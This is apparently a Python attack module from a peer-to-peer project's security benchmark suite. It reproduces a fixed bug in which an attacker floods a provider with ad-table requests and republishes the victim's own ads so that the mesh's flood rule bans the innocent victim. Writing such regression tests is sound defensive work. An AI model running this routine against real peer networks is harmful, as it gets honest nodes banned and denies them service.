"""Issue 16, item 2: get a provider banned mesh-wide by republishing its own ads.

The attacker, connected to the victim only, asks for its ad table as fast as it can and republishes
the victim's own ad from each answer on ``garage/caps/1``. Before the fix every table request minted
a new ad (a new seq), and the flood rule ("new ads faster than one a second") blamed the ad's author:
every peer, the victim included, banned the victim, which had sent nothing.
"""

from __future__ import annotations

import json

from garage_p2p.core.capabilities import TOPIC_CAPS
from garage_p2p.daemon import Peer
from garage_p2p.mesh.host import DialError
from garage_p2p.mesh.streams import StreamBroken

from . import Target
from ._mesh import join_gossip, read_table

VICTIM = "provider"
"""H, the provider (benchmarks/attacks.py)."""

GIVE_UP_AFTER = 10
"""Refused requests in a row after which the attacker stops (it has been banned)."""


async def attack(attacker: Peer, victim: Target, *, requests: int = 200) -> dict[str, int | float | str]:
    """Up to ``requests`` table fetches, each followed by a republication of the victim's own ad."""
    await join_gossip(attacker, victim, TOPIC_CAPS)
    fetched = refused = in_a_row = 0
    seqs: set[int] = set()
    for _ in range(requests):
        try:
            ads, _size = await read_table(attacker, victim)
        except (DialError, StreamBroken):
            refused += 1
            in_a_row += 1
            if in_a_row >= GIVE_UP_AFTER:
                break
            continue
        in_a_row = 0
        fetched += 1
        own = ads[0]  # the server's own ad comes first
        seqs.add(json.loads(own[64:])["seq"])
        await attacker.mesh.publish(TOPIC_CAPS, own)
    return {"fetched": fetched, "refused": refused, "distinct_seqs": len(seqs)}
